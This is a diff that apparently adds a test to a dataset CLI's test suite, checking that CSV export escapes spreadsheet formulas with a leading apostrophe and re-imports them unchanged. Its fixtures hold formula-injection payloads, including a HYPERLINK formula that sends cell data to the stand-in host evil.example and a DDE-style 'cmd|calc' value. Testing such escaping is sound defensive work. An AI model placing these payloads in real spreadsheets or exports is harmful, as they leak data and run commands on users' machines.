@@ -75,6 +75,20 @@ describe('switchyard datasets', () => {
     expect(await cli('datasets', 'import', world.write('clash-again.csv', clash), '--name', 'clash')).toMatch(/^unchanged: /);
   });
 
+  it('exports a text a spreadsheet would run as a formula with a leading apostrophe, numbers as they are, and reads it back unchanged', async () => {
+    const rows = [
+      { id: 'f1', input: '=HYPERLINK("http://evil.example/?d="&A1,"click")', expected: '-3' },
+      { id: 'f2', input: '@SUM(1+1)*cmd|calc', expected: '+1.5e3' },
+      { id: 'f3', input: '-rf is a flag', expected: "'quoted already" },
+    ];
+    await cli('datasets', 'import', world.write('formulas.jsonl', rows.map((r) => `${JSON.stringify(r)}\n`).join('')));
+    const csv = await cli('datasets', 'export', 'formulas', '--format', 'csv', '--out', '-');
+    expect(csv).toContain(`f1,"'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")",-3,`);
+    expect(csv).toContain("f2,'@SUM(1+1)*cmd|calc,+1.5e3,");
+    expect(csv).toContain("f3,'-rf is a flag,'quoted already,");
+    expect(await cli('datasets', 'import', world.write('formulas-again.csv', csv), '--name', 'formulas')).toMatch(/^unchanged: .* is already formulas@1/);
+  });
+
   it('shows a cut cell with an ellipsis, so a shortened answer does not pass for the whole one', async () => {
     const long = `Track it in the app under Cards. ${'If it has not arrived after three weeks we send a new one. '.repeat(4)}`;
     const file = world.write('long-answer.jsonl', `${JSON.stringify({ id: 'a', input: 'Where is my card?', output: long.trim() })}\n`);
